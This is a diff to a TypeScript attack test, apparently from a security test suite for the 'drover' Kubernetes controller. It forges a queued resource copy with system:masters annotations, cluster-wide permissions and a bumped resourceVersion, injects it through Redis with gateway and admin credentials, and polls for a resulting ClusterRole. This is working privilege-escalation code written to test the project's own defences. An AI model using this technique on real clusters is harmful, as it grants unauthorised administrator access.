@@ -1,6 +1,10 @@
-import { silentLog } from "@drover/controller";
-import { connectRedis, disconnectRedis, openWorkQueue } from "@drover/queue";
+import { Redis } from "ioredis";
+import { setTimeout as delay } from "node:timers/promises";
+import { objectKey, silentLog } from "@drover/controller";
+import { builtin } from "@drover/kube";
+import { connectRedis, disconnectRedis, openWorkQueue, type WorkQueue } from "@drover/queue";
 import type { Attack } from "../attack.ts";
+import type { Installation } from "../installation.ts";
 import { makeAuthor, everything, functionOf } from "./function-of.ts";
 
 /** The queues in which the deployer's own may be. */
@@ -12,7 +16,7 @@ export const attack: Attack = {
   needs: ["cluster"],
   async run({ cluster }) {
     const installation = cluster();
-    const { apply, judged, kubeconfigOf, kubectl, may, permitted, redis, redisUrlOf } = installation;
+    const { apply, kubeconfigOf, kubectl, permitted, redis, redisUrlOf } = installation;
     const namespace = await installation.namespace("forged-copy");
     const mallory = { user: "mallory-copy" };
     await makeAuthor(installation, mallory, namespace);
@@ -27,6 +31,8 @@ export const attack: Attack = {
       ...object,
       metadata: {
         ...object.metadata,
+        // Newer than all that the queue knows of.
+        resourceVersion: String(Number(object.metadata.resourceVersion) + 1_000_000),
         annotations: { "drover.dev/author": "admin", "drover.dev/author-groups": "system:masters" },
       },
       spec: { ...object.spec, permissions: { cluster: everything } },
@@ -34,16 +40,22 @@ export const attack: Attack = {
     const control = (await redis.keys("*")).find((key) => deployersQueue.test(key)) ?? "";
     const queueName = control.replace(/^\{drover[^:]*:/, "").replace(/\}:control$/, "");
     // Once with what the gateway has, and once as Redis' administrator: the deployer must not depend on the password.
+    // A later run that reads live takes away what was granted: it is looked for all the time.
+    const looking = new AbortController();
+    const granted = lookFor(installation, `drover:${namespace}:innocent`, looking.signal);
     const tries: string[] = [];
+    const prefix = control.replace(/:control$/, "");
+    const entry = `${prefix}:key:${namespace}/innocent`;
     for (const url of [redisUrlOf("gateway"), installation.redisUrlOfAdmin]) {
+      // As a run leaves it that has seen the object in this incarnation of Redis: then a copy is believed.
+      await mark(url, entry, (await redis.hget(control, "era")) ?? "");
       tries.push(
         await forge(url, queueName, `${namespace}/innocent`, forged).catch((error: Error) => error.message),
       );
     }
-    await kubectl(["annotate", "rf", "innocent", "-n", namespace, "drover.dev/ask=again"], { as });
-    const { reason } = await judged(namespace, "innocent");
-    const succeeded = await may({ user: `system:serviceaccount:${namespace}:innocent` }, "*", "*");
-    return { succeeded, evidence: `may do everything: ${succeeded}; ${reason}; ${tries.join("; ")}` };
+    looking.abort();
+    const succeeded = await granted;
+    return { succeeded, evidence: `a ClusterRole was made: ${succeeded}; ${tries.join("; ")}` };
   },
 };
 
@@ -58,7 +70,10 @@ async function forge(
   const { uid, resourceVersion } = copy.metadata;
   const kind = "reconcilefunctions.drover.dev";
   const gaveUp = Promise.withResolvers<string>();
-  const timer = setTimeout(() => gaveUp.resolve("Redis did not take it within 5 s"), 5_000);
+  const timer = setTimeout(
+    () => gaveUp.resolve("Redis did not take it, or no run followed, within 10 s"),
+    10_000,
+  );
   try {
     const wake = {
       key: key as never,
@@ -70,7 +85,10 @@ async function forge(
       copy: JSON.stringify(copy),
     } as const;
     return await Promise.race([
-      queue.wake([wake]).then(() => "the queue took the forged copy"),
+      queue
+        .wake([wake])
+        .then(() => ran(queue, key))
+        .then(() => "the deployer ran the key"),
       gaveUp.promise,
     ]);
   } finally {
@@ -78,4 +96,28 @@ async function forge(
     await queue.close();
     await disconnectRedis(redis);
   }
+}
+
+/** Whether a ClusterRole was there at any time until the signal fires. */
+async function lookFor({ admin }: Installation, name: string, signal: AbortSignal): Promise<boolean> {
+  while (!signal.aborted) {
+    if ((await admin.get(builtin.clusterRole, objectKey({ name }))) !== undefined) return true;
+    await delay(20);
+  }
+  return false;
+}
+
+/** Resolves when the key is at rest: a run has answered its wake. */
+async function ran(queue: WorkQueue, key: string): Promise<void> {
+  for (;;) {
+    const { state } = (await queue.inspect(key as never)).key;
+    if (state === "idle" || state === "waits" || state === "parked") return;
+    await delay(100);
+  }
+}
+
+async function mark(url: string, entry: string, era: string): Promise<void> {
+  const connection = new Redis(url);
+  await connection.hset(entry, "sawIn", era).catch(() => undefined);
+  connection.disconnect();
 }
